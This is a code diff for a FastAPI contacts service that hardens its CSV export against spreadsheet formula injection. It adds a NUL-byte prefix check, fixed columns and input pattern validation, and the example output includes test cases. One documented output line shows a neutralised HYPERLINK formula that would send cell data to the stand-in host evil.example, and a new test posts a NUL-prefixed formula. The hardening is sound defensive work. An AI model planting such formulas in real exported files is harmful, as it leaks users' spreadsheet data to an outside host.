@@ -10,7 +10,7 @@ from fastapi import FastAPI, Query
 from fastapi.responses import Response
 from pydantic import BaseModel
 
-FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
+FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r", "\0")
 
 
 def inert(value: Any) -> Any:
@@ -21,10 +21,13 @@ def inert(value: Any) -> Any:
 
 class CSVResponse(Response):
     media_type = "text/csv"
+    columns: tuple[str, ...] = ()
 
     def render(self, content: Any) -> bytes:
         out = io.StringIO()
-        writer = csv.DictWriter(out, fieldnames=list(content[0]))
+        writer = csv.DictWriter(
+            out, fieldnames=self.columns, restval="", extrasaction="ignore"
+        )
         writer.writeheader()
         for row in content:
             writer.writerow({key: inert(value) for key, value in row.items()})
@@ -36,6 +39,13 @@ class Contact(BaseModel):
     city: str
 
 
+class ContactsCSV(CSVResponse):
+    columns = tuple(Contact.model_fields)
+
+
+# No control characters anywhere, no whitespace at the start.
+PLAIN_TEXT = r"^[^\s\x00-\x1f\x7f][^\x00-\x1f\x7f]*$"
+
 app = FastAPI()
 
 CONTACTS = deque([Contact(name="Ada", city="London")], maxlen=50)
@@ -43,14 +53,15 @@ CONTACTS = deque([Contact(name="Ada", city="London")], maxlen=50)
 
 @app.post("/contacts", status_code=201)
 def add_contact(
-    name: str = Query(max_length=100), city: str = Query(max_length=100)
+    name: str = Query(max_length=100, pattern=PLAIN_TEXT),
+    city: str = Query(max_length=100, pattern=PLAIN_TEXT),
 ) -> Contact:
     contact = Contact(name=name, city=city)
     CONTACTS.append(contact)
     return contact
 
 
-@app.get("/contacts.csv", response_class=CSVResponse)
+@app.get("/contacts.csv", response_class=ContactsCSV)
 def export_contacts(response: Response) -> list[Contact]:
     response.headers["Content-Disposition"] = 'attachment; filename="contacts.csv"'
     return list(CONTACTS)
@@ -78,9 +89,15 @@ if __name__ == "__main__":
         #> Ada,London
         #> "'=HYPERLINK(""http://evil.example/?""&A1,""Details"")",Oslo
 
-    tricky = {"name": 'Lee, "Sam"\nJr.', "city": "Paris"}
-    client.post("/contacts", params=tricky)
-    rows = list(csv.DictReader(io.StringIO(client.get("/contacts.csv").text)))
-    print(rows[-1])
-    #> {'name': 'Lee, "Sam"\nJr.', 'city': 'Paris'}
+    hidden = client.post("/contacts", params={"name": "\0=1+1", "city": "Oslo"})
+    print(hidden.status_code, hidden.json()["detail"][0]["type"])
+    #> 422 string_pattern_mismatch
+
+    print(ContactsCSV([]).body)
+    #> b'name,city\r\n'
+
+    tricky = {"name": 'Lee, "Sam"\nJr.', "city": "a,b"}
+    rows = list(csv.DictReader(io.StringIO(ContactsCSV([tricky]).body.decode())))
+    print(rows)
+    #> [{'name': 'Lee, "Sam"\nJr.', 'city': 'a,b'}]
     # --8<-- [end:try_it]
